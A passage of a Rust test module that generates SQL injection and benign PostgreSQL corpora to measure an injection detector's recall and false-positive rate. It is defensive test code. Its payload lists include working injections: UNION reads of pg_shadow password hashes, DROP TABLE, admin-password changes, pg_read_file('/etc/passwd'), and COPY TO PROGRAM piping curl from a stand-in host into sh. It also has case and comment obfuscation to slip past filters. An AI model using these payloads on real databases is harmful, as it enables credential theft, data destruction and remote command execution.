//! Test corpora, generated from templates: injections (many contexts times many payload
//! techniques, with case and comment obfuscation) and benign SQL in the forms ORMs,
//! migrations, reports and admin tools send. Recall and false-positive rate are asserted
//! against thresholds and printed; public payload lists are evaluated by an ignored test
//! that reads them from a local directory (never committed).

use std::time::Instant;

use super::{
    analyze::Analyzer,
    lexer::{LexLimits, TokenKind},
    shape::shape_of,
    tokenize,
};

/// An injection context: a query with one place (`{}`) where input is pasted raw, and how a
/// payload breaks out of it.
struct Context {
    name: &'static str,
    template: &'static str,
    /// Closes the literal or expression the input lands in.
    breakout: &'static str,
    /// Re-opens what the template's tail closes, when the payload ends without a comment
    /// (`' OR 'a'='a` leaves the template's closing quote a job).
    rebalance: &'static str,
}

const CONTEXTS: &[Context] = &[
    Context {
        name: "string",
        template: "SELECT id, name FROM users WHERE name = '{}'",
        breakout: "x'",
        rebalance: " AND 'q'='q",
    },
    Context {
        name: "string-and",
        template: "SELECT * FROM accounts WHERE email = '{}' AND active = true LIMIT 1",
        breakout: "a@b.c'",
        rebalance: " AND 'q'='q",
    },
    Context {
        name: "like",
        template: "SELECT id, title FROM products WHERE title ILIKE '%{}%' ORDER BY id LIMIT 20",
        breakout: "%'",
        rebalance: " AND title LIKE '%",
    },
    Context {
        name: "numeric",
        template: "SELECT * FROM orders WHERE id = {}",
        breakout: "1",
        rebalance: "",
    },
    Context {
        name: "numeric-and",
        template: "SELECT total FROM invoices WHERE customer_id = {} AND paid = false",
        breakout: "42",
        rebalance: "",
    },
    Context {
        name: "order-by",
        template: "SELECT id, name FROM users ORDER BY {} LIMIT 50",
        breakout: "name",
        rebalance: "",
    },
    Context {
        name: "limit",
        template: "SELECT id FROM posts WHERE published ORDER BY created_at DESC LIMIT {}",
        breakout: "10",
        rebalance: "",
    },
    Context {
        name: "in-list",
        template: "SELECT * FROM items WHERE id IN ({}) AND deleted_at IS NULL",
        breakout: "1, 2)",
        rebalance: " AND (1 IN (1",
    },
    Context {
        name: "jsonb",
        template: "SELECT id FROM events WHERE payload->>'user' = '{}' ORDER BY ts",
        breakout: "bob'",
        rebalance: " AND 'q'='q",
    },
    Context {
        name: "dollar",
        template: "SELECT * FROM notes WHERE body = $${}$$",
        breakout: "x$$",
        rebalance: " AND $$q$$=$$q",
    },
    Context {
        name: "insert",
        template: "INSERT INTO comments (post_id, author, body) VALUES (3, 'anon', '{}')",
        breakout: "hi'",
        rebalance: " AND 'q'='q",
    },
    Context {
        name: "update",
        template: "UPDATE users SET bio = '{}' WHERE id = 7",
        breakout: "x'",
        rebalance: " AND 'q'='q",
    },
    Context {
        name: "offset",
        template: "SELECT id, title FROM articles ORDER BY id LIMIT 20 OFFSET {}",
        breakout: "40",
        rebalance: "",
    },
    Context {
        name: "in-strings",
        template: "SELECT id FROM users WHERE role IN ('admin', '{}') ORDER BY id",
        breakout: "staff'",
        rebalance: " AND 'q'='q",
    },
    Context {
        name: "jsonb-contains",
        template: "SELECT id FROM events WHERE payload @> '{\"user\": \"{}\"}'::jsonb LIMIT 10",
        breakout: "bob\"}'",
        rebalance: " AND '{\"q\": \"q",
    },
    Context {
        name: "insert-numeric",
        template: "INSERT INTO scores (user_id, points, note) VALUES ({}, 10, 'ok')",
        breakout: "7",
        rebalance: "",
    },
    Context {
        name: "update-numeric",
        template: "UPDATE accounts SET balance = balance + {} WHERE id = 3",
        breakout: "5",
        rebalance: "",
    },
    Context {
        name: "dollar-tag",
        template: "SELECT id FROM notes WHERE body = $q${}$q$ AND owner_id = 9",
        breakout: "x$q$",
        rebalance: " AND $q$a$q$=$q$a",
    },
    Context {
        name: "paren-string",
        template: "SELECT * FROM users WHERE (username = '{}') AND (status = 'active')",
        breakout: "x')",
        rebalance: " AND ('q'='q",
    },
];

/// Techniques: what follows the breakout. A `|` splits alternatives for variety.
const TECHNIQUES: &[&str] = &[
    // boolean / tautology
    " OR 1=1",
    " OR 'a'='a'",
    " OR 2>1",
    " OR true",
    " OR 1",
    " OR ''=''",
    " OR 3-2=1",
    " OR NOT 5123=5124",
    " OR 'x' LIKE 'x'",
    " AND 1=2",
    " AND 8121=8121",
    " AND 'abc'='abd'",
    " AND (SELECT (CASE WHEN (4242=4242) THEN NULL ELSE CAST('x' AS NUMERIC) END)) IS NULL",
    " AND ASCII(SUBSTRING((SELECT passwd FROM pg_shadow LIMIT 1),1,1))>64",
    " AND LENGTH(current_database())>3",
    " OR username=username",
    // union
    " UNION SELECT NULL",
    " UNION ALL SELECT NULL,NULL,NULL",
    " UNION SELECT NULL,version(),NULL",
    " UNION ALL SELECT usename, passwd FROM pg_shadow",
    " UNION SELECT table_name, NULL FROM information_schema.tables",
    " UNION SELECT 1,2,3",
    " UNION SELECT current_user, NULL",
    " UNION ALL SELECT NULL,(CHR(113)||CHR(106)||CHR(122)||CHR(113))",
    " UNION SELECT username, password FROM users",
    // stacked
    "; DROP TABLE users",
    "; SELECT pg_sleep(5)",
    "; INSERT INTO users (name, is_admin) VALUES ('evil', true)",
    "; UPDATE users SET password = 'x' WHERE name = 'admin'",
    "; COPY (SELECT '') TO PROGRAM 'curl http://x/s | sh'",
    "; CREATE TABLE cmd_exec(out text); COPY cmd_exec FROM PROGRAM 'id'",
    "; ALTER USER postgres WITH PASSWORD 'owned'",
    "; SELECT lo_import('/etc/passwd')",
    // time
    " AND 4123=(SELECT 4123 FROM PG_SLEEP(5))",
    " OR pg_sleep(5) IS NULL",
    " AND (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL",
    " AND 7=(SELECT COUNT(*) FROM generate_series(1,5000000))",
    " AND SLEEP(5)",
    " WAITFOR DELAY '0:0:5'",
    // error
    " AND 1=CAST(version() AS int)",
    " AND 7=CAST((CHR(113)||CHR(118)||(SELECT current_user)::text||CHR(113)) AS NUMERIC)",
    " AND (SELECT current_user)::int=1",
    " AND 1=1/0",
    " AND 1=(SELECT 1/(SELECT 0))",
    " AND 1=(SELECT query_to_xml('select * from pg_user',true,true,''))::text::int",
    // file / catalog
    " AND (SELECT pg_read_file('/etc/passwd')) IS NOT NULL",
    " AND (SELECT COUNT(*) FROM pg_ls_dir('/')) > 0",
    " AND 1=(SELECT 1 FROM dblink('host=evil user=x', 'select 1') AS t(a int))",
    " AND (SELECT COUNT(*) FROM pg_user) > 0",
    " AND EXISTS(SELECT 1 FROM pg_shadow WHERE usename='postgres')",
    // obfuscation
    " OR CHR(65)||CHR(66)||CHR(67)='ABC'",
    " /*!50000UNION*/ SELECT NULL",
    " UN/**/ION/**/SEL/**/ECT/**/NULL",
];

/// ORDER BY and LIMIT need expression payloads, not predicates.
const EXPRESSION_TECHNIQUES: &[&str] = &[
    ",(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
    ",(SELECT 1 FROM pg_sleep(5))",
    ",(CASE WHEN (5=5) THEN name ELSE id::text END)",
    ",(SELECT version())::int",
    ",CAST((SELECT current_user) AS int)",
    "; DROP TABLE users",
    "; SELECT pg_sleep(5)",
    " UNION SELECT NULL,NULL",
    ",(SELECT pg_read_file('/etc/passwd'))",
];

/// Probes a scanner sends to learn the query's shape or provoke an error: valid SQL (or
/// nearly) only because a comment cuts the template's tail, or invalid SQL PostgreSQL
/// rejects. Used with the comment endings only.
const PROBE_TECHNIQUES: &[&str] = &[
    " ORDER BY 7",
    " GROUP BY 2",
    " UNION ALL SELECT NULL,NULL FROM accounts",
    " AND",
    " OR",
    ",",
    " ||",
    " %",
    "\\",
    " {",
    "\"\"",
    " AND 0x61646d696e=0x61646d696e",
    " AND `id`=1",
    " AND 1 IN (insert)",
    " LIMIT asc",
    " UNION",
];

/// How a payload ends: a comment eats the template's tail, or the payload rebalances it.
#[derive(Clone, Copy)]
enum Ending {
    LineComment,
    LineCommentDash,
    BlockComment,
    Rebalance,
}

fn random_case(s: &str, seed: usize) -> String {
    // Deterministic "randomcase": flip letters on a pattern driven by the seed.
    s.chars()
        .enumerate()
        .map(|(i, c)| {
            if (i * 7 + seed).is_multiple_of(3) {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect()
}

/// Keywords outside literals stay keywords under case changes; literals would change
/// meaning, so obfuscation touches only the payload's words outside quotes.
fn obfuscate(payload: &str, seed: usize, comments: bool) -> String {
    let mut out = String::new();
    let mut in_quote = false;
    let mut word = String::new();
    let flush = |word: &mut String, out: &mut String| {
        if !word.is_empty() {
            out.push_str(&random_case(word, seed));
            word.clear();
        }
    };
    for c in payload.chars() {
        if c == '\'' {
            flush(&mut word, &mut out);
            in_quote = !in_quote;
            out.push(c);
        } else if in_quote {
            out.push(c);
        } else if c.is_ascii_alphabetic() {
            word.push(c);
        } else {
            flush(&mut word, &mut out);
            if c == ' ' && comments {
                out.push_str("/**/");
            } else {
                out.push(c);
            }
        }
    }
    flush(&mut word, &mut out);
    out
}

pub(crate) fn injection_corpus() -> Vec<(String, String)> {
    let mut out = Vec::new();
    let endings = [
        Ending::LineComment,
        Ending::LineCommentDash,
        Ending::BlockComment,
        Ending::Rebalance,
    ];
    for ctx in CONTEXTS {
        for (t, probe) in PROBE_TECHNIQUES.iter().enumerate() {
            for tail in ["--", "-- -", "--+"] {
                let payload = format!("{}{}{}", ctx.breakout, probe, tail);
                let query = ctx.template.replacen("{}", &payload, 1);
                out.push((format!("{}/probe{}", ctx.name, t), query));
            }
        }
        let expression = matches!(ctx.name, "order-by" | "limit" | "offset");
        let techniques = if expression {
            EXPRESSION_TECHNIQUES
        } else {
            TECHNIQUES
        };
        for (t, technique) in techniques.iter().enumerate() {
            for (e, ending) in endings.iter().enumerate() {
                for variant in 0..3 {
                    let body = match variant {
                        0 => (*technique).to_owned(),
                        1 => obfuscate(technique, t + e, false),
                        _ => obfuscate(technique, t + e, true),
                    };
                    let tail = match ending {
                        Ending::LineComment => "--".to_owned(),
                        Ending::LineCommentDash => "-- -".to_owned(),
                        Ending::BlockComment => "/*".to_owned(),
                        Ending::Rebalance => ctx.rebalance.to_owned(),
                    };
                    let payload = format!("{}{}{}", ctx.breakout, body, tail);
                    let query = ctx.template.replacen("{}", &payload, 1);
                    out.push((format!("{}/{}", ctx.name, t), query));
                }
            }
        }
    }
    out
}

struct Model {
    table: &'static str,
    columns: &'static [&'static str],
}

const MODELS: &[Model] = &[
    Model {
        table: "auth_user",
        columns: &[
            "id",
            "username",
            "email",
            "first_name",
            "last_name",
            "is_active",
            "date_joined",
        ],
    },
    Model {
        table: "shop_order",
        columns: &["id", "customer_id", "status", "total", "created_at", "note"],
    },
    Model {
        table: "blog_post",
        columns: &["id", "title", "slug", "body", "author_id", "published_at"],
    },
    Model {
        table: "catalog_product",
        columns: &["id", "sku", "name", "price", "stock", "category_id"],
    },
    Model {
        table: "crm_contact",
        columns: &["id", "name", "phone", "company", "tags", "updated_at"],
    },
    Model {
        table: "billing_invoice",
        columns: &["id", "number", "amount", "currency", "due_date", "paid"],
    },
    Model {
        table: "events_log",
        columns: &["id", "kind", "payload", "ts", "source", "level"],
    },
    Model {
        table: "forum_comment",
        columns: &["id", "thread_id", "user_id", "text", "score", "created"],
    },
];

/// User input that looks like SQL but stays inside its literal.
const TRICKY_VALUES: &[&str] = &[
    "O'Reilly",
    "1=1 or union select -- x",
    "it's; DROP TABLE x; --",
    "/* not a comment */",
    "a' OR 'b",
    "SELECT * FROM pg_shadow",
    "50% off -- today",
    "union station",
    "Rock 'n' Roll",
    "\\x41\\x42",
    "$$dollar$$",
    "x\" OR \"1\"=\"1",
    "pg_sleep(10)",
    "Bobby Tables",
    "alice@example.com",
    "東京 café",
    "",
];

fn quote(v: &str) -> String {
    format!("'{}'", v.replace('\'', "''"))
}

fn e_quote(v: &str) -> String {
    format!("E'{}'", v.replace('\\', "\\\\").replace('\'', "\\'"))
}

pub(crate) fn benign_corpus() -> Vec<String> {
    let mut out = Vec::new();
    for (m, model) in MODELS.iter().enumerate() {
        let t = model.table;
        let cols = model.columns;
        let dj_cols: Vec<String> = cols.iter().map(|c| format!("\"{t}\".\"{c}\"")).collect();
        let dj_list = dj_cols.join(", ");
        let sa_list: Vec<String> = cols.iter().map(|c| format!("{t}.{c} AS {t}_{c}")).collect();
        let sa_list = sa_list.join(", ");
        let pw_list: Vec<String> = cols.iter().map(|c| format!("\"t1\".\"{c}\"")).collect();
        let pw_list = pw_list.join(", ");
        for (v, value) in TRICKY_VALUES.iter().enumerate() {
            let n = (m * 31 + v * 7) % 997 + 1;
            let c1 = cols[1 + v % (cols.len() - 1)];
            let c2 = cols[1 + (v + 2) % (cols.len() - 1)];
            let q = quote(value);
            let ids: Vec<String> = (0..(v % 6 + 1)).map(|k| (n + k * 3).to_string()).collect();
            let ids = ids.join(", ");
            // Django
            out.push(format!(
                "SELECT {dj_list} FROM \"{t}\" WHERE \"{t}\".\"{c1}\" = {q} LIMIT 21"
            ));
            out.push(format!("SELECT {dj_list} FROM \"{t}\" WHERE (\"{t}\".\"{c1}\" = {q} AND \"{t}\".\"id\" IN ({ids})) ORDER BY \"{t}\".\"id\" DESC"));
            out.push(format!("SELECT COUNT(*) AS \"__count\" FROM \"{t}\" WHERE UPPER(\"{t}\".\"{c1}\"::text) LIKE UPPER({})", quote(&format!("%{value}%"))));
            out.push(format!(
                "SELECT (1) AS \"a\" FROM \"{t}\" WHERE \"{t}\".\"{c2}\" = {n} LIMIT 1"
            ));
            out.push(format!("INSERT INTO \"{t}\" (\"{c1}\", \"{c2}\") VALUES ({q}, {n}) RETURNING \"{t}\".\"id\""));
            out.push(format!(
                "UPDATE \"{t}\" SET \"{c1}\" = {q}, \"{c2}\" = NULL WHERE \"{t}\".\"id\" = {n}"
            ));
            out.push(format!(
                "DELETE FROM \"{t}\" WHERE \"{t}\".\"id\" IN ({ids})"
            ));
            out.push(format!("SELECT {dj_list} FROM \"{t}\" WHERE (NOT (\"{t}\".\"{c1}\" = {q} AND \"{t}\".\"{c1}\" IS NOT NULL) AND \"{t}\".\"{c2}\" >= {n}) LIMIT 21"));
            out.push(format!("SELECT {dj_list} FROM \"{t}\" WHERE EXISTS(SELECT (1) AS \"a\" FROM \"{t}\" U0 WHERE (U0.\"id\" = (\"{t}\".\"id\") AND U0.\"{c1}\" = {q}) LIMIT 1) LIMIT 21"));
            out.push(format!("SELECT \"{t}\".\"{c1}\", COUNT(\"{t}\".\"id\") AS \"n\" FROM \"{t}\" GROUP BY \"{t}\".\"{c1}\" HAVING COUNT(\"{t}\".\"id\") > {n} ORDER BY \"n\" DESC"));
            // SQLAlchemy (psycopg2 interpolates parameters client-side)
            out.push(format!("SELECT {sa_list} FROM {t} WHERE {t}.{c1} = {q} AND {t}.id > {n} ORDER BY {t}.id LIMIT 10 OFFSET {}", n % 50));
            out.push(format!(
                "SELECT {sa_list} FROM {t} WHERE lower({t}.{c1}) = lower({q}) OR {t}.{c2} IS NULL"
            ));
            out.push(format!("SELECT {t}.id, coalesce({t}.{c1}, {q}) AS label, row_number() OVER (PARTITION BY {t}.{c2} ORDER BY {t}.id DESC) AS rn FROM {t} WHERE {t}.id IN ({ids})"));
            out.push(format!("WITH recent AS (SELECT {t}.id AS id FROM {t} WHERE {t}.{c2} > {n} ORDER BY {t}.id DESC LIMIT 100) SELECT count(*) AS count_1 FROM recent"));
            out.push(format!("INSERT INTO {t} ({c1}, {c2}) VALUES ({}, {n}) ON CONFLICT (id) DO UPDATE SET {c1} = excluded.{c1} RETURNING {t}.id", e_quote(value)));
            out.push(format!(
                "SELECT {t}.id FROM {t} WHERE {t}.{c1} ILIKE {} ESCAPE '/'",
                quote(&format!("%{value}%"))
            ));
            // Peewee
            out.push(format!("SELECT {pw_list} FROM \"{t}\" AS \"t1\" WHERE ((\"t1\".\"{c1}\" = {q}) AND (\"t1\".\"id\" IN ({ids}))) LIMIT 1 OFFSET 0"));
            out.push(format!("SELECT {pw_list} FROM \"{t}\" AS \"t1\" WHERE ((\"t1\".\"{c1}\" = {q}) AND (0 = 1))"));
            out.push(format!(
                "UPDATE \"{t}\" SET \"{c1}\" = {q} WHERE (\"{t}\".\"id\" = {n})"
            ));
            // psycopg2 by hand
            out.push(format!(
                "SELECT * FROM {t} WHERE {c1} = {q} AND {c2} BETWEEN {n} AND {}",
                n + 10
            ));
            out.push(format!(
                "INSERT INTO {t} ({c1}, {c2}) VALUES ({q}, {n}), ({}, {}), ({q}, 0)",
                quote(&value.to_uppercase()),
                n + 1
            ));
            out.push(format!(
                "SELECT * FROM {t} WHERE 1=1 AND {c1} = {q} AND {c2} <> {n}"
            ));
            out.push(format!("SELECT * FROM {t} WHERE {c1} = {q}::text AND created_at > now() - interval '{} days'", n % 30 + 1));
            out.push(format!("SELECT payload->>'user' AS u, payload #>> '{{a,b}}' FROM {t} WHERE payload @> '{{\"k\": {n}}}'::jsonb AND tags && ARRAY['x', 'y']"));
            out.push(format!(
                "SELECT * FROM {t} WHERE {c1} = $1 AND {c2} = ANY($2) LIMIT $3"
            ));
            out.push(format!("SELECT id FROM {t} WHERE payload->>'user' = {q} AND payload #>> '{{a,b}}' <> {q} ORDER BY ts"));
            out.push(
                format!("SELECT * FROM {t} WHERE {c1} = $${value}$$ AND id = {n}")
                    .replace("$$$$dollar$$$$", "$q$x$q$"),
            );
            // Optional filters written by hand, parameters inlined (`:p IS NULL OR col = :p`).
            out.push(format!(
                "SELECT id FROM {t} WHERE {c2} >= {n} AND ({q} IS NULL OR {c1} = {q}) ORDER BY id"
            ));
            out.push(format!(
                "SELECT id FROM {t} WHERE {c1} = {q} OR {q}::text IS NULL"
            ));
            out.push(format!(
                "SELECT id FROM {t} WHERE (NULL::timestamptz IS NULL OR {c2} >= NULL::timestamptz) AND {c1} <> {q}"
            ));
        }
        // Reporting
        out.push(format!(
            "SELECT date_trunc('month', created_at) AS month, count(*) AS n, \
             sum(CASE WHEN status = 'paid' THEN total ELSE 0 END) AS paid, \
             round(100.0 * count(*) FILTER (WHERE status = 'refunded') / NULLIF(count(*), 0), 2) AS refund_pct \
             FROM {t} WHERE created_at >= now() - interval '1 year' GROUP BY 1 ORDER BY 1"
        ));
        out.push(format!(
            "SELECT 'open' AS state, count(*) FROM {t} WHERE status = 'open' \
             UNION ALL SELECT 'closed', count(*) FROM {t} WHERE status = 'closed' \
             UNION ALL SELECT 'total', count(*) FROM {t}"
        ));
        out.push(format!(
            "SELECT region, product, sum(amount) FROM {t} GROUP BY region, product \
             UNION ALL SELECT region, NULL, sum(amount) FROM {t} GROUP BY region \
             UNION ALL SELECT NULL, NULL, sum(amount) FROM {t} ORDER BY 1, 2"
        ));
        out.push(format!(
            "SELECT d::date AS day, coalesce(c.n, 0) FROM generate_series(now() - interval '30 days', now(), '1 day') AS d \
             LEFT JOIN (SELECT created_at::date AS day, count(*) AS n FROM {t} GROUP BY 1) c ON c.day = d::date ORDER BY 1"
        ));
        out.push(format!(
            "-- weekly report: don't count test accounts\nSELECT id, lag(total) OVER w AS prev, total - lag(total) OVER w AS delta\n\
             FROM {t} -- the main table\nWHERE NOT is_test WINDOW w AS (ORDER BY id)"
        ));
        out.push(format!(
            "/* report: top customers */ SELECT customer_id, sum(total) AS s FROM {t} WHERE created_at BETWEEN '2024-01-01' AND '2024-12-31' \
             GROUP BY customer_id HAVING sum(total) > 1000 ORDER BY s DESC LIMIT 10"
        ));
        out.push(format!(
            "SELECT a.id FROM {t} a WHERE a.total > (SELECT avg(total) FROM {t}) AND 0 < (SELECT count(*) FROM {t} b WHERE b.customer_id = a.customer_id)"
        ));
        out.push(format!(
            "SELECT id, total, CASE WHEN total > 100 THEN 'big' WHEN total > 10 THEN 'mid' ELSE 'small' END FROM {t} \
             WHERE status IN ('a', 'b') AND id NOT IN (SELECT order_id FROM refunds) /*controller='orders',framework='django'*/"
        ));
        // Migrations
        out.push(format!(
            "BEGIN;\nCREATE TABLE \"{t}_archive\" (\"id\" bigserial NOT NULL PRIMARY KEY, \"note\" text DEFAULT '' NOT NULL);\n\
             ALTER TABLE \"{t}\" ADD COLUMN \"archived\" boolean DEFAULT false NOT NULL;\n\
             CREATE INDEX \"{t}_archived_idx\" ON \"{t}\" (\"archived\");\nCOMMIT;"
        ));
        out.push(format!(
            "INSERT INTO {t}_new (id, note) SELECT id, note FROM {t};\nDROP TABLE {t};\nALTER TABLE {t}_new RENAME TO {t};"
        ));
        out.push(format!(
            "UPDATE {t} SET status = 'legacy' WHERE status = 'old';\nALTER TABLE {t} ALTER COLUMN status SET NOT NULL;"
        ));
        out.push(format!(
            "CREATE OR REPLACE FUNCTION {t}_touch() RETURNS trigger AS $$\nBEGIN\n  NEW.updated_at := now(); -- keep fresh\n  \
             IF NEW.note = '' OR 1=1 THEN RAISE NOTICE 'x'; END IF;\n  RETURN NEW;\nEND;\n$$ LANGUAGE plpgsql;\n\
             CREATE TRIGGER {t}_touch BEFORE UPDATE ON {t} FOR EACH ROW EXECUTE FUNCTION {t}_touch();"
        ));
        out.push(
            "DO $do$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_catalog.pg_roles WHERE rolname = 'app') THEN CREATE ROLE app; END IF; END $do$;"
                .to_owned(),
        );
        out.push(format!(
            "SELECT c.relname, a.attname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_attribute a ON a.attrelid = c.oid \
             WHERE c.relname = '{t}' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum"
        ));
        out.push(format!(
            "SELECT column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' AND table_name = '{t}'"
        ));
        out.push(format!("COPY public.{t} (id, note) FROM stdin;"));
        out.push(format!(
            "COPY (SELECT * FROM {t} WHERE id > 10) TO STDOUT WITH (FORMAT csv, HEADER)"
        ));
    }
    // Admin tools and session setup.
    for q in [
        "SELECT version()",
        "SELECT current_user",
        "SELECT pg_sleep(1)",
        "SHOW server_version",
        "SET statement_timeout = 0",
        "SET search_path TO public, extensions",
        "SELECT pg_catalog.set_config('search_path', '', false);",
        "SELECT set_config('app.tenant', '42', true)",
        "SELECT * FROM orders WHERE tenant_id = current_setting('app.tenant')::int",
        "INSERT INTO audit (who, what) VALUES (current_user, 'login')",
        "SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' END as \"Type\", \
         pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace \
         WHERE c.relkind IN ('r','p','v','m','S','f','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' \
         AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;",
        "SELECT d.datname as \"Name\", pg_catalog.pg_get_userbyid(d.datdba) as \"Owner\" FROM pg_catalog.pg_database d ORDER BY 1;",
        "SELECT r.rolname, r.rolsuper, ARRAY(SELECT b.rolname FROM pg_catalog.pg_auth_members m JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid) WHERE m.member = r.oid) as memberof FROM pg_catalog.pg_roles r WHERE r.rolname !~ '^pg_' ORDER BY 1;",
        "SELECT pid, usename, state, query FROM pg_stat_activity WHERE state <> 'idle'",
        "SELECT 1",
        "SELECT 1 AS n UNION ALL SELECT 2 UNION ALL SELECT 3",
        "BEGIN",
        "COMMIT",
        "ROLLBACK TO SAVEPOINT s1",
        "VACUUM ANALYZE orders",
        "EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 5",
        "LISTEN jobs",
        "NOTIFY jobs, 'payload; DROP TABLE x --'",
        "SELECT tags[1:2], (ARRAY[1,2,3])[2] FROM posts WHERE name % 'postgres' ORDER BY similarity(name, 'postgres') DESC",
        "CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql IMMUTABLE SET search_path = 'public' AS $$ SELECT a + 1 $$",
        "SELECT * FROM events WHERE ts > now() - '7 days'::interval AND ts < now() - interval '1 hour' * 2",
        "SELECT * FROM jobs WHERE run_at <= now() AND status = 'queued' ORDER BY run_at LIMIT 10 FOR UPDATE SKIP LOCKED",
        "SELECT * FROM t WHERE created AT TIME ZONE 'UTC' > '2024-01-01' AND note LIKE 'a!%' ESCAPE '!'",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders WHERE status = 'paid'",
        "ALTER SEQUENCE orders_id_seq RESTART WITH 1000 INCREMENT BY 1",
        "SELECT x FROM t WHERE a IS DISTINCT FROM 'b' AND c IS NOT TRUE",
        "SELECT customer_id, sum(total) -- customers' totals, 'paid' ones only below\nFROM orders\nWHERE status = 'paid' -- refunds aren't revenue\nGROUP BY 1",
        "SELECT region FROM sales GROUP BY region ORDER BY percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) DESC LIMIT 5 OFFSET 10",
        "INSERT INTO counters (k, n) SELECT k, 1 FROM src WHERE k > 0 ON CONFLICT (k) WHERE k IS NOT NULL DO UPDATE SET n = counters.n + 1 WHERE counters.k = excluded.k",
        "SELECT id, row_number() OVER (PARTITION BY a ORDER BY b) FROM t WHERE x IN (SELECT y FROM u WHERE z = 1 ORDER BY y LIMIT 3) ORDER BY id LIMIT 10",
        "SELECT * FROM t OFFSET 20 LIMIT 10",
        "(SELECT a FROM t1 ORDER BY a LIMIT 1) UNION ALL (SELECT a FROM t2 ORDER BY a LIMIT 1) ORDER BY 1",
        "SELECT string_agg(name, ', ' ORDER BY name) FROM users WHERE active GROUP BY team HAVING count(*) > 1 ORDER BY 1",
        // What ORM connections and introspection send (SQLAlchemy, Django, Peewee, psycopg2).
        "select pg_catalog.version()",
        "select current_schema()",
        "show standard_conforming_strings",
        "SELECT CAST('test plain returns' AS VARCHAR(60)) AS anon_1",
        "SELECT CAST('test unicode returns' AS VARCHAR(60)) AS anon_1",
        "SELECT EXISTS (SELECT * FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public' AND c.relname = 'users' AND c.relkind = ANY (ARRAY['r', 'p', 'f', 'v', 'm']))",
        "SELECT c.relname, CASE WHEN c.relispartition THEN 'p' WHEN c.relkind IN ('m', 'v') THEN 'v' ELSE 't' END, obj_description(c.oid, 'pg_class') FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('f', 'm', 'p', 'r', 'v') AND n.nspname NOT IN ('pg_catalog', 'pg_toast') AND pg_catalog.pg_table_is_visible(c.oid)",
        "SELECT \"django_migrations\".\"id\", \"django_migrations\".\"app\", \"django_migrations\".\"name\", \"django_migrations\".\"applied\" FROM \"django_migrations\"",
        "SAVEPOINT \"s140234_x1\"",
        "RELEASE SAVEPOINT \"s140234_x1\"",
        "SET TIME ZONE 'UTC'",
        "SELECT set_config('TimeZone', 'UTC', false)",
        "SELECT EXTRACT(YEAR FROM \"shop_order\".\"created_at\" AT TIME ZONE 'UTC') AS \"year\", COALESCE(SUM(\"shop_order\".\"total\"), 0) AS \"s\" FROM \"shop_order\" WHERE \"shop_order\".\"created_at\" >= '2024-01-01T00:00:00+00:00'::timestamptz GROUP BY 1",
        "SELECT DATE_TRUNC('day', \"events_log\".\"ts\" AT TIME ZONE 'Europe/Paris') AS \"d\", COUNT(*) FROM \"events_log\" GROUP BY 1 ORDER BY 1 ASC",
        "UPDATE \"catalog_product\" SET \"stock\" = (\"catalog_product\".\"stock\" - 1) WHERE \"catalog_product\".\"id\" = 12",
        "SELECT \"shop_order\".\"id\" FROM \"shop_order\" WHERE \"shop_order\".\"id\" = 5 LIMIT 21 FOR UPDATE",
        "INSERT INTO \"tags\" (\"name\") VALUES ('a'), ('b') ON CONFLICT DO NOTHING RETURNING \"tags\".\"id\"",
        "SELECT \"t1\".\"id\", \"t1\".\"content\" FROM \"tweet\" AS \"t1\" INNER JOIN \"user\" AS \"t2\" ON (\"t1\".\"user_id\" = \"t2\".\"id\") WHERE (\"t2\".\"username\" = 'huey') ORDER BY \"t1\".\"timestamp\" DESC LIMIT 10",
        "SELECT \"t1\".\"id\" FROM \"note\" AS \"t1\" WHERE (\"t1\".\"user_id\" IN (SELECT \"t2\".\"id\" FROM \"user\" AS \"t2\" WHERE (\"t2\".\"active\" = true)))",
        "SELECT users.id, users.name FROM users WHERE users.name LIKE '%' || 'bob' || '%' AND users.email LIKE 'a' || '%'",
        "SELECT users.id FROM users WHERE users.id IN (NULL) AND (1 != 1)",
        "SELECT users.id FROM users WHERE users.id IN (SELECT 1 FROM (SELECT 1) WHERE 1!=1)",
        "SELECT count(*) AS count_1 FROM (SELECT users.id AS users_id FROM users WHERE users.active IS true AND NOT users.deleted) AS anon_1",
        "SELECT users.id FROM users WHERE users.id = ANY (ARRAY[1, 2, 3]) AND users.data -> 'a' ->> 'b' = 'c' AND CAST(users.created AS DATE) = '2024-05-01'",
        "INSERT INTO files (id, data, price, ratio, at, meta) VALUES ('a8098c1a-f86e-11da-bd1a-00112444be1e'::uuid, '\\x0102ff'::bytea, 1.50, 'NaN'::float, '-infinity'::date, '{\"a\": [1, 2]}')",
        "SELECT * FROM ledger WHERE amount < -5 AND balance - -5 > 0 AND delta = -0.25",
        "SELECT hstore(ARRAY['a', 'b'], ARRAY['1', '2']) -> 'a'",
        "SELECT id FROM t WHERE tsv @@ plainto_tsquery('english', 'union select') ORDER BY ts_rank(tsv, plainto_tsquery('english', 'union select')) DESC",
        "SELECT a.id FROM a WHERE a.x = 1 OR a.y = 2 OR (a.z IS NULL AND a.w <> 'q')",
        "SELECT \"x\".\"id\" FROM \"x\" WHERE (\"x\".\"a\" = 'p' OR \"x\".\"b\" = 'q') AND NOT (\"x\".\"c\" IN ('r', 's'))",
        // psql's \\d and \\dconfig: a catalog subquery as a predicate, IS DISTINCT FROM a column.
